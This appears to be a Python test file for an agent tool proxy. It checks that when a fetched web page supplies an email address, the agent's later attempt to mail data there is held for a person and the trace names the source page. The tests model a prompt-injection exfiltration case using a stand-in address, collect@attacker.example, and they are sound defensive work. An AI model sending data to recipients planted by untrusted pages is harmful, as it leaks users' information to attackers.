"""A page tells the agent whom to write to: nothing is sent unless a person says so, and the trace names the page."""

from __future__ import annotations

import json
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
from mcp import Client

from support.proxy import Proxy, fuseboard, served
from support.sdk_client import words

SERVER = Path(__file__).parent.parent / "support" / "letter_server.py"
ATTACKER = "collect@attacker.example"
LIMIT_S = 90


@asynccontextmanager
async def board(folder: Path, **sections: Any) -> AsyncIterator[Proxy]:
    """With nothing declared of either server."""
    web = {"command": sys.executable, "args": [str(SERVER), "web"]}
    mail = {"command": sys.executable, "args": [str(SERVER), "mail", str(folder / "outbox")]}
    config = {"servers": {"web": web, "mail": mail}, "approvals": {"timeout": "100ms", "ask_above": None}, **sections}
    with anyio.fail_after(LIMIT_S):
        async with served(config, folder) as proxy:
            yield proxy


async def call(url: str, name: str, /, **arguments: Any) -> tuple[str, dict[str, Any]]:
    async with Client(url, mode="auto") as client:
        result = await client.call_tool(name, arguments)
    return words(result), (result.meta or {}).get("fuseboard/decision", {})


async def run(proxy: Proxy, *options: str) -> tuple[str, str]:
    """The id and the address of a new run."""
    said = json.loads((await fuseboard("run", "new", "--json", *options, state=proxy.state)).stdout)
    return said["run"], proxy.base + said["path"]


def outbox(folder: Path) -> list[str]:
    return (folder / "outbox").read_text().splitlines() if (folder / "outbox").exists() else []


async def test_a_letter_to_an_address_from_a_page_waits_for_a_person_and_the_trace_names_the_page(
    tmp_path: Path,
) -> None:
    async with board(tmp_path) as proxy:
        id, url = await run(proxy)
        assert ATTACKER in (await call(url, "web__fetch_page", name="bad"))[0]
        text, decision = await call(url, "mail__send_email", to=ATTACKER, body="the plans")
        assert (decision["policy"], decision["rule"]) == ("flow", "flow.copied")
        (page,) = [one["id"] for one in await proxy.trace() if one["upstream"] == "web"]
        assert (
            f"its argument to is '{ATTACKER}', which came from the untrusted result of web__fetch_page [{page}]" in text
        )
        assert outbox(tmp_path) == []
        record = (await proxy.trace())[-1]
        (check,) = [one for one in record["checks"] if one["policy"] == "flow"]
        (copied,) = check["facts"]["copied"]
        assert (copied["path"], copied["decision"], copied["from"]) == ("/to", page, "web__fetch_page")
        assert f"/to copied from web__fetch_page {page}" in await proxy.cli("trace", "why", record["id"])
        (state,) = json.loads(await proxy.cli("status", "--json"))["runs"]
        assert (state["run"], state["label"]["trust"]) == (id, "untrusted")
        assert "read untrusted, public data from web__fetch_page" in await proxy.cli("status")


async def test_what_the_task_or_the_operator_names_and_what_no_page_says_is_sent(tmp_path: Path) -> None:
    async with board(tmp_path, flow={"known": ["boss@example.org"]}) as proxy:
        _, named = await run(proxy, "--task", f"Read the bad page, then write to {ATTACKER}.")
        _, other = await run(proxy)
        for url, to in ((named, ATTACKER), (other, "boss@example.org"), (other, "friend@example.net")):
            await call(url, "web__fetch_page", name="bad")
            assert await call(url, "mail__send_email", to=to, body="hello") == ("sent", {})
        assert outbox(tmp_path) == [ATTACKER, "boss@example.org", "friend@example.net"]


async def test_a_rule_can_use_both_words(tmp_path: Path) -> None:
    rules = [
        {"id": "no-copies", "tools": "mail__*", "decide": "deny", "when": 'context.copied_from.contains("web")'},
        {"id": "clean-only", "tools": "mail__*", "decide": "deny", "when": 'context.labels.contains("from:web")'},
    ]
    async with board(tmp_path, rules=rules, flow={"copied": "allow"}) as proxy:
        _, url = await run(proxy)
        assert (await call(url, "mail__send_email", to=ATTACKER, body="early"))[0] == "sent"
        await call(url, "web__fetch_page", name="bad")
        decision = (await call(url, "mail__send_email", to="friend@example.net", body="late"))[1]
        assert (decision["verdict"], decision["rule"]) == ("deny", "clean-only")
        _, url = await run(proxy)
        await call(url, "web__fetch_page", name="bad")
        decision = (await call(url, "mail__send_email", to=ATTACKER, body="late"))[1]
        assert decision["rule"] == "no-copies"


async def test_what_was_read_before_a_restart_cannot_be_looked_into_any_more_and_is_asked_about(tmp_path: Path) -> None:
    facts = {"send_email": {"effect": "destructive", "outward": True}}
    mail = {"command": sys.executable, "args": [str(SERVER), "mail", str(tmp_path / "outbox")], "tools": facts}
    web = {"command": sys.executable, "args": [str(SERVER), "web"]}
    sections = {"servers": {"web": web, "mail": mail}}
    async with board(tmp_path, **sections) as proxy:
        said = json.loads((await fuseboard("run", "new", "--json", state=proxy.state)).stdout)
        await call(proxy.base + said["path"], "web__fetch_page", name="bad")
    async with board(tmp_path, **sections) as proxy:
        text, decision = await call(proxy.base + said["path"], "mail__send_email", to="x@example.org", body="hello")
        assert decision["rule"] == "flow.copied"
        assert "that are not kept any more" in text
    assert outbox(tmp_path) == []
